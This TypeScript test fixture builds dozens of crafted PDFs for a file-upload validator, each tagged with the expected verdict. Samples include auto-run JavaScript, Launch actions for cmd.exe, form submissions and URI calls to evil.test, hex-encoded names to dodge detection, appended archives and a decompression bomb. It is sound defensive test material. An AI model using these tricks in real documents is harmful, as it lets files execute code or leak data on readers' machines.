import { deflateSync } from 'node:zlib';
import type { PDFDocument } from 'pdf-lib';
import { cut, type HostileFile, joined, text } from './hostile-file';
import { JS, type Parts, packed, pdf, plainPdf, stream, writtenPdf } from './pdf-parts';
import { zip } from './strangers';

const addScript = (document: PDFDocument) => document.addJavaScript('main', 'app.alert(1)');
const paper = (expected: HostileFile['expected'], what: string, content: HostileFile['content']): HostileFile => ({
  ...{ what, content, expected, fileName: 'paper.pdf' },
});
const active = (what: string, parts: Parts) => paper('pdf_active', what, () => pdf(parts));

/** Files that run code, carry other files or hide something, and files that are not PDFs. */
export const PDFS: HostileFile[] = [
  paper('pdf_active', 'a script in the tree of names', () => writtenPdf(addScript, { useObjectStreams: false })),
  paper('pdf_active', 'the same, packed', () => writtenPdf(addScript)),
  paper('pdf_active', 'an attached file', () =>
    writtenPdf((document) => document.attach(text('MZ'), 'run.exe', { mimeType: 'application/octet-stream' })),
  ),
  active('a script that runs on opening', { catalog: `/OpenAction ${JS}` }),
  active('the same, elsewhere', { catalog: '/OpenAction 4 0 R', more: [JS] }),
  active('the same, with its name in codes', {
    catalog: '/Open#41ction 4 0 R',
    more: ['<< /S /J#61v#61#53cript /JS (app.alert\\(1\\)) >>'],
  }),
  active('the same, packed', { catalog: '/OpenAction 9 0 R', more: [packed(JS)] }),
  active('the same, packed with its name in codes', {
    catalog: '/OpenAction 9 0 R',
    more: [packed('<< /S /#4aavaScript /JS (1) >>')],
  }),
  active('a script when a page is seen', { page: `/AA << /O ${JS} >>` }),
  active('an action of a page that only calls an address', {
    page: '/AA << /O << /S /URI /URI (http://evil.test) >> >>',
  }),
  active('an address called on opening', { catalog: '/OpenAction << /S /URI /URI (http://evil.test) >>' }),
  active('a page gone to on opening, and then an address called', {
    catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.test) >> >>',
  }),
  active('a program that is started', {
    page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>]',
  }),
  active('a form that is sent', {
    page: '/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (http://evil.test) >> >>]',
  }),
  active('a form with a program in it', { catalog: '/AcroForm << /Fields [] /XFA (x) >>' }),
  active('a link into an attached file', { page: '/Annots [<< /Subtype /Link /A << /S /GoToE /T << /R /C >> >> >>]' }),
  active('a file hung on a page', { page: '/Annots [<< /Subtype /FileAttachment /FS << /EF << /F 4 0 R >> >> >>]' }),
  active('a document with actions of its own', { catalog: `/AA << /WC ${JS} >>` }),
  active('an action in a list that is broken off', { page: '/Annots [ << /X [ >> ] /A#41 << /U 4 0 R >> >> ]' }),
  active('an action in codes', { page: '/Annots [<< /Subtype /Link /#41#41 4 0 R >>]' }),
  active('a program in codes', { page: '/Annots [<< /Subtype /Link /A << /S /L#61unch /F (cmd.exe) >> >>]' }),
  active('a form with a program in it, in codes', { catalog: '/AcroForm << /Fields [] /#58#46#41 (x) >>' }),
  active('an embedded file in codes', { more: ['<< /Type /Embedded#46ile >>'] }),
  active('a list of embedded files', { catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }),
  active('a file of another computer', {
    page: '/Annots [<< /Subtype /Link /A << /S /GoToR /F (\\\\evil.test\\a) /D [0 /Fit] >> >>]',
  }),
  active('a link that is a script', {
    page: '/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (java\\163cript:alert\\(1\\)) >> >>]',
  }),
  active('a film of the old kind', { page: '/Annots [<< /Subtype /Movie /Rect [0 0 9 9] >>]' }),
  active('opening that is defined twice', {
    catalog: '/OpenAction 4 0 R',
    more: ['<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n4 0 obj\n<< /S /URI /URI (http://evil.test) >>'],
  }),
  active('opening that nobody defines', { catalog: '/OpenAction 7 0 R' }),
  active('a film', { page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' }),
  active('a script to which nothing points', { more: [JS] }),
  active('a script within a stream’s bytes', { more: [stream('', `5 0 obj\n${JS}\nendobj`)] }),
  paper('pdf_active', 'a script added behind the end', async () =>
    joined(await plainPdf(), `9 0 obj ${JS} endobj\n%%EOF`),
  ),
  paper('pdf_active', 'an archive behind the end', async () => joined(await plainPdf(), zip('run.exe', text('MZ')))),
  paper('pdf_active', 'an archive with the end of a PDF in its comment', async () =>
    joined(await plainPdf(), zip('run.exe', text('MZ'), '\n%%EOF\n')),
  ),
  paper('pdf_protected', 'one that is encrypted', () =>
    pdf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O () /U () /P -1 >>' }),
  ),
  paper('pdf_too_long', 'one of 51 pages', () =>
    writtenPdf((document) => {
      for (let page = 2; page <= 51; page += 1) document.addPage();
    }),
  ),
  paper('file_unreadable', 'one cut in the middle', async () => cut(await plainPdf(), 0.5)),
  paper('file_unreadable', 'a head and nothing behind it', () => text('%PDF-1.7\n%%EOF')),
  paper('file_unreadable', 'HTML behind a head', () => text('%PDF-1.7\n<script>alert(1)</script>')),
  paper('file_unreadable', 'pages that contain themselves', () =>
    text(Buffer.from(pdf({})).toString('latin1').replace('/Kids [3 0 R] /Count 1', '/Kids [2 0 R] /Count 1')),
  ),
  paper('file_unreadable', 'a packed stream that unpacks to 100 MB', () =>
    pdf({
      more: [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(100_000_000, '1 ')))],
    }),
  ),
  ...['1 0 obj (', '1 0 obj [ ', ' obj << /A ', '1 0 obj << /First 1 >> stream\n'].map((word) =>
    paper('file_unreadable', `nine megabytes of “${word.trim()}”`, () =>
      text(`%PDF-1.7\n${word.repeat(Math.floor(9_000_000 / word.length))}`),
    ),
  ),
  paper('file_type_refused', 'one that begins with something else', async () => joined('<html>', await plainPdf())),
  paper('kept', 'a plain one', () => plainPdf()),
  paper('kept', 'one that opens at a page', () => pdf({ catalog: '/OpenAction [3 0 R /FitH 200]' })),
  paper('kept', 'one that goes to a page on opening', () =>
    pdf({ catalog: '/OpenAction 4 0 R', more: ['<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>'] }),
  ),
  paper('kept', 'one that goes to a page on opening, packed', () =>
    pdf({ catalog: '/OpenAction 9 0 R', more: [packed('<< /S /GoTo /D [3 0 R /Fit] >>')] }),
  ),
];
